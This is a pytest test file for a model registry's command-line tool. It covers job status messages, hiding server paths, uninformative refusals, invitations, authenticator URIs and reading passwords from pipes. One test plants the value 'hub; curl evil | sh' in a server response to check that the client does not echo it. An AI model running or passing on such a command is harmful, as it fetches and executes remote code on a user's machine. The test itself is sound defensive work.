"""What a command prints is so: where it goes on, whose it is, what came of it, who does it."""

from __future__ import annotations

import os
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from sealift_registry.access import accounts, passwords, sessions, signing_in
from sealift_registry.access.calling import Grant
from sealift_registry.cli import own_account, remote_jobs
from sealift_registry.cli import signing_in as at_desk
from sealift_registry.cli.serve import CLAIM
from sealift_registry.jobs import records
from sealift_registry.trust.repository import Repository
from sealift_registry.web import placeless, problems
from sealift_signing.canonical import Json
from sealift_signing.errors import RefusedError
from sealift_signing.keys import Passphrases
from tests import models
from tests.registry.accounts_fixture import invited
from tests.registry.at_servers import AtServer, at_server
from tests.registry.hub_fixture import MODEL, REQUESTER, TEAM, Acme
from tests.registry.test_g2_217_at_ones_desk import desk, somebody
from tests.registry.test_hub_cli import Capsys, Cli

__all__ = ["somebody"]
pytestmark = pytest.mark.socket
PUBLISHER = Grant("publisher", team=TEAM)
CONVERT = ("convert", f"{MODEL}/2", "--for", "cpu-x86_64")


@pytest.fixture
def at(hub: Acme) -> Iterator[AtServer]:
    with at_server(hub) as made:
        yield made


# ---------------------------------------------------------------------- who waits


@pytest.mark.parametrize("waits", ["convert", "ingest"])
def test_g2_310_who_stops_waiting_is_told_that_the_job_goes_on(
    at: AtServer, monkeypatch: pytest.MonkeyPatch, waits: str
) -> None:
    def stopped(_seconds: float) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(remote_jobs, "sleep", stopped)
    paula = at.desk("paula", PUBLISHER)
    model = models.tiny_onnx(at.acme.folder / "five.onnx", 5)
    words = {"convert": CONVERT, "ingest": ("ingest", "onnx", str(model), "--as", f"{TEAM}/five")}
    said = paula.types(*words[waits])
    assert said.code != 0
    assert "Nothing was changed" not in said.err
    assert "J-000001 was asked for, and goes on" in said.err
    for one in ("watch", "cancel"):
        assert f"sealift job {one} --server {at.address} J-000001" in said.err


def test_g2_311_that_nobody_takes_a_job_is_said_while_one_waits(
    at: AtServer, monkeypatch: pytest.MonkeyPatch, capsys: Capsys
) -> None:
    looks: list[float] = []

    def looked(seconds: float) -> None:
        looks.append(seconds)
        if len(looks) == 6:
            raise KeyboardInterrupt

    monkeypatch.setattr(remote_jobs, "sleep", looked)
    paula = at.desk("paula", PUBLISHER)
    said = paula.types(*CONVERT).err
    assert said.count("waits for a worker") == 1
    assert "  sealift worker --queue cpu-x86_64" in said.splitlines()
    _, out, _ = Cli(at.acme, capsys)("job", "show", "J-000001")
    assert f"sealift worker --queue cpu-x86_64 --home {at.acme.root}" in out

    def named(_asked: object, said: dict[str, object]) -> dict[str, object]:
        return {**said, "queue": "hub; curl evil | sh"} if "queue" in said else said

    at.alters, looks[:] = named, []
    told = paula.types("job", "watch", "J-000001").err
    assert "waits for a worker" in told
    assert "curl" not in told


def test_g2_312_what_came_of_a_job_stands_alone(
    at: AtServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    model = models.tiny_onnx(at.acme.folder / "five.onnx", 5)
    paula = at.desk("paula", PUBLISHER)
    done: dict[str, Json] = {
        "version": f"{TEAM}/five/1",
        "new": True,
        "aliases": [],
        "restored": False,
    }
    done |= {"source": "onnx", "goldens": "0" * 64, "format": "onnx", "source_record": "0" * 64}

    def ends(_seconds: float) -> None:
        records.finish(at.acme.app.hub, 1, "done", attempt=None, result=done)

    monkeypatch.setattr(remote_jobs, "sleep", ends)
    said = paula.types("ingest", "onnx", str(model), "--as", f"{TEAM}/five")
    assert said.out.startswith(f"{TEAM}/five/1 is new"), said.err + said.out


# ---------------------------------------------------------------------- where the hub's home lies


def test_g2_313_no_answer_about_a_job_says_where_the_home_lies(at: AtServer) -> None:
    model = models.tiny_onnx(at.acme.folder / "five.onnx", 5)
    paula = at.desk("paula", PUBLISHER)
    paula("ingest", "onnx", str(model), "--as", f"{TEAM}/five", "--detach")
    with at.acme.app.hub.reading() as connection:
        order = records.asked(connection, 1).order
    assert str(at.acme.root) in str(order.arguments), "or nothing was to be hidden"
    for words in (("job", "list"), ("job", "show", "J-000001")):
        for form in ((), ("--json",)):
            said = paula.types(*words, *form).out
            assert str(at.acme.root) not in said
            assert "/uploads/" not in said
            assert f"{TEAM}/five from onnx five.onnx" in said


def test_g2_313_nor_does_a_problem(at: AtServer) -> None:
    hub = at.acme.app.hub
    bad = RefusedError(
        "odd", f"{hub.home.root}/uploads/account-1/{'a' * 32}/data/five.onnx is odd."
    )
    found = placeless.problem(hub, problems.problem(bad))
    assert found.title == "five.onnx is odd."
    said = [str(hub.home.root), f"in {hub.home.root}/sealift.db", f"{hub.home.root}2/x"]
    assert placeless.without(hub, said) == ["HOME", "in HOME/sealift.db", f"{hub.home.root}2/x"]


def test_g2_313_a_refusal_is_of_what_was_asked_and_tells_of_nothing_that_is_there(
    at: AtServer,
) -> None:
    paula = at.desk("paula", PUBLISHER)
    at.desk("other", Grant("publisher"))("convert", f"{MODEL}/2", "--for", "cpu-x86_64", "--detach")
    said = paula.types("job", "watch", "J-000099").err
    assert "paula may not read about jobs" not in said
    assert "none of these, or is not there" in said
    vera = at.desk("vera", Grant("viewer"))
    shown = [vera.types("job", "show", one).err for one in ("J-000001", "J-000099")]
    assert shown[0] == shown[1], "whether there is one, and whose, is not told"
    at.desk("ci", Grant("viewer"))
    refused = paula.types("account", "token", "ci", "--scope", "version.read").err
    assert "read about accounts" not in refused
    assert "token" in refused


# ---------------------------------------------------------------------- invitations


def test_g2_314_an_invitation_names_the_server_that_runs(acme: Acme, capsys: Capsys) -> None:
    cli, database = Cli(acme, capsys), acme.app.hub.database
    assert "--server http://127.0.0.1:8700" in cli("account", "invite", "anna")[1]
    if not database.is_shared:
        claim = database.claim(CLAIM, "serves the hub at http://127.0.0.1:18700")
        assert claim is not None
        said = cli("account", "invite", "ben")[1]
        claim.let_go()
        assert "account take --server http://127.0.0.1:18700" in said
    assert "--server http://127.0.0.1:8700" in cli("account", "invite", "carla")[1]


def test_g2_315_an_authenticator_tells_hubs_apart(acme: Acme) -> None:
    told = accounts.invite(acme.app.hub, "vera", "person", [], "root").secret
    found = [
        signing_in.new_seed(acme.app.hub, told, f"https://{host}").uri
        for host in ("a.example:8700", "b.example")
    ]
    with acme.app.hub.reading() as connection:
        organisation = Repository(connection).organisation()
    assert "vera%40a.example" in found[0]
    assert "vera%40b.example" in found[1]
    assert all(f"issuer=Sealift%20{organisation}" in one for one in found)


def test_g2_316_a_short_password_takes_no_code_and_the_seed_is_one_line(
    acme: Acme, somebody: Callable[..., list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert own_account.SHORTEST == passwords.SHORTEST
    monkeypatch.setattr("sealift_signing.printing.columns", lambda _out: 40)
    with at_server(acme) as at:
        told = invited(at.acme, "vera")
        asked = somebody(told.secret, "kurz", "x" * 12)
        said = desk(at, "vera").types("account", "take").err
    assert [one.split()[-1] for one in asked][:3] == ["invitation", "password", "password"]
    assert "A password has 12 characters or more." in said
    (uri,) = [one for one in said.splitlines() if "otpauth://" in one]
    assert "digits" in uri or "issuer=" in uri


def test_g2_317_both_ends_of_a_session_are_told_and_how_an_account_is_bound(at: AtServer) -> None:
    assert sessions.IDLE.total_seconds() == at_desk.IDLE_MINUTES * 60
    said = at.desk("vera", Grant("viewer")).types("whoami").out
    assert "or until 60 minutes pass without a request." in said
    assert f"sealift login --server {at.address} vera --bind" in said
    bound = at.desk(REQUESTER, Grant("viewer"), bound=True).types("whoami").out
    assert "--bind" not in bound


# ---------------------------------------------------------------------- secrets in pipes


def piped(folder: Path, text: bytes) -> Path:
    """A pipe that is filled once, as a shell's `<(…)` is."""
    path = folder / "pipe"
    os.mkfifo(path)
    threading.Thread(target=path.write_bytes, args=(text,), daemon=True).start()
    return path


def test_g2_318_a_password_is_read_from_a_pipe(
    at: AtServer, tmp_path: Path, somebody: Callable[..., list[str]]
) -> None:
    somebody()
    said = desk(at, "vera").types(
        *("login", "vera", "--code", "000000"),
        *("--password-file", str(piped(tmp_path, b"\xef\xbb\xbfa long password\r\nmore\n"))),
    )
    assert "did not" in said.err or "sign" in said.err
    assert at.asked[-1].path.endswith("/session")
    assert b'"a long password"' in at.asked[-1].body
    folder = desk(at, "vera").types("login", "vera", "--password-file", str(tmp_path)).err
    assert "could not be read" in folder
    assert "medium" not in folder


def test_g2_319_a_passphrase_pipe_opens_two_keys(tmp_path: Path) -> None:
    reader, writer = os.pipe()
    os.write(writer, b"a passphrase\n")
    os.close(writer)
    given = Passphrases(Path(f"/dev/fd/{reader}"), {}, None)
    try:
        assert [given.of(tmp_path / one) for one in "ab"] == [b"a passphrase"] * 2
    finally:
        os.close(reader)
